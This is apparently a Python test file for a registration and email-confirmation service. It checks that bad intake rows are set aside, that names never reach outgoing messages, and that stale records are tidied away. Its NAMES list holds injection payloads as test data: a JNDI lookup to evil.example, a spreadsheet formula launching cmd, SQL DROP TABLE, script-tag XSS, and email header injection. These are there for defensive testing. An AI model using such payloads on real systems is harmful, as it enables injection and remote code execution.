"""The letterbox: what cannot be used is set aside, and holds nobody else up. Old things are tidied away."""

import os

import pytest
from uuid6 import uuid7

from service.crypto.browser_secret import BrowserSecret
from service.crypto.canonical import canonical_json
from service.crypto.sealing import seal
from service.registrations import journey
from service.registrations.places import intake_place
from tests.deliveries.looking import one_value, run_sql
from tests.harness.people import Service, somebody
from tests.harness.servers import Database
from workers import confirm, intake
from workers.tidy import tidy

NAMES = [
    "[Click](https://evil.example/x)",
    "# Heading",
    "((subject)) ((name??x))",
    "\u202eDr. Evil\u202c",
    "Jo\nBcc: everyone@example.com",
    "other.person@example.com",
    "07700 900123",
    "<script>alert(1)</script>",
    "'; DROP TABLE registrations; --",
    "Łukasz O’Brien-Ångström",
    "李小龍",
    "x" * 190,
    '=HYPERLINK("https://evil.example/x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u0410d\u0430 L\u043ev\u0435l\u0430c\u0435",  # Cyrillic letters that look like Latin ones
    "\uff41\uff44\uff41\uff20example.org",
    "zero\u200bwidth\u2066isolate\u2069\u2028line",
    "%0d%0aBcc:%20everyone@example.com",
    "${jndi:ldap://evil.example/a} {{7*7}}",
    "[](https://evil.example)",
]


@pytest.mark.parametrize("kind", ["not sealed", "of another row", "not a form", "without an email"])
async def test_an_intake_that_cannot_be_used_is_set_aside_and_the_rest_goes_on(
    service: Service, database: Database, kind: str
) -> None:
    row, key = uuid7(), service.scheme.sealing_key
    assert key is not None
    form = service.form(somebody()).model_dump(mode="json")
    bad = {
        "not sealed": os.urandom(200),
        "of another row": seal(canonical_json(form), key=key, place=intake_place(uuid7())),
        "not a form": seal(b"[]", key=key, place=intake_place(row)),
        "without an email": seal(canonical_json({**form, "email": None}), key=key, place=intake_place(row)),
    }[kind]
    first, last = somebody(), somebody()
    await service.drop(first)
    run_sql(
        database,
        "INSERT INTO intake (id, scheme_id, sealed, received_at) VALUES (%s, %s, %s, now())",
        row,
        service.scheme.id,
        bad,
    )
    await service.drop(last)
    for _ in range(2):
        await intake.take_in(service.worker)
    await confirm.send_confirmations(service.worker)
    assert [len(service.notify.inbox(address)) for address in (first, last)] == [1, 1]
    assert one_value(database, "SELECT array_agg(id) FROM intake WHERE set_aside_at IS NOT NULL") == [row]


async def test_34_no_name_reaches_any_message(service: Service, database: Database) -> None:
    people = [somebody() for _ in NAMES]
    for address, name in zip(people, NAMES, strict=True):
        await service.drop(address, name=name, organisation=f"Org {name}"[:200], kind="organisation")
    await intake.take_in(service.worker)
    await confirm.send_confirmations(service.worker)
    for address in people:
        await service.confirm(address)
    run_sql(database, "UPDATE contacts SET asked_at = '{}'")
    for address, name in zip(people, NAMES, strict=True):
        await service.register(address, name=name, organisation=name, kind="organisation")
    await service.approved()
    await service.send()
    kinds: set[str] = set()
    for address in people:
        messages = service.notify.inbox(address)
        assert len(messages) == 3
        for message in messages:
            kinds.add(message["subject"])
            text = f"{message['subject']}\n{message['body']}"
            assert not any(name in text for name in NAMES)
            if message["subject"] != "The news":
                assert message["body"].startswith("Hello\n")
    assert len(kinds) == 3


async def test_who_never_confirmed_is_forgotten_after_seven_days(
    service: Service, database: Database
) -> None:
    old, young, confirmed = somebody(), somebody(), await service.person()
    await service.register(old)
    week = "interval '8 days'"
    run_sql(database, f"UPDATE registrations SET created_at = created_at - {week} WHERE state = 'pending'")
    run_sql(database, f"UPDATE confirmations SET expires_at = expires_at - {week} WHERE used_at IS NULL")
    await service.register(young)
    await tidy(service.worker)
    states = "SELECT array_agg(state ORDER BY state) FROM registrations"
    assert one_value(database, states) == ["confirmed", "pending"]
    # Their address stays as an index for a month, so that it is not asked more often than it may be.
    assert one_value(database, "SELECT count(*) FROM contacts") == 3
    run_sql(
        database,
        "UPDATE contacts SET created_at = created_at - interval '40 days',"
        " asked_at = ARRAY[now() - interval '40 days']",
    )
    await tidy(service.worker)
    assert one_value(database, "SELECT count(*) FROM contacts") == 2
    await service.confirm(young)
    assert service.notify.inbox(confirmed)


async def test_a_link_that_still_works_keeps_its_registration(service: Service, database: Database) -> None:
    address = somebody()
    await service.register(address)
    run_sql(database, "UPDATE registrations SET created_at = created_at - interval '8 days'")
    await tidy(service.worker)
    await service.confirm(address)
    assert one_value(database, "SELECT state FROM registrations") == "confirmed"


async def test_answers_on_their_way_are_kept_for_an_hour_and_only_for_their_key(
    service: Service, database: Database
) -> None:
    key, other = BrowserSecret.new(), BrowserSecret.new()
    async with service.public.begin() as tx:
        await journey.remember(tx, key, {"email": "jo@example.com"})
        assert await journey.recall(tx, key) == {"email": "jo@example.com"}
        assert await journey.recall(tx, other) is None
    row = one_value(database, "SELECT journey_answers::text FROM journey_answers")
    assert key.value not in row
    assert b"jo@example.com".hex() not in row
    await tidy(service.worker)
    assert one_value(database, "SELECT count(*) FROM journey_answers") == 1
    run_sql(database, "UPDATE journey_answers SET expires_at = now() - interval '1 second'")
    async with service.public.begin() as tx:
        assert await journey.recall(tx, key) is None
    await tidy(service.worker)
    assert one_value(database, "SELECT count(*) FROM journey_answers") == 0
